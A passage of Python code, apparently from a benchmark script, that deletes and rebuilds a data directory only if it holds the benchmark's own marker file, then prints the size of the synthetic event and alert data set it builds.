        if not (data_dir / MARKER).exists():
            raise SystemExit(f"{data_dir} is not empty and was not made by this benchmark: give another --data-dir")
        shutil.rmtree(data_dir)
    data_dir.mkdir(parents=True, exist_ok=True)
    (data_dir / MARKER).write_text("made by benchmarks/console.py; deleted by --rebuild\n")
    console.print(f"Building the data set in {data_dir}: {params.events:,} events, about "
                  f"{params.alerts:,} alerts, {params.tenants} tenants, {params.days} days")
    return build(data_dir, params), True
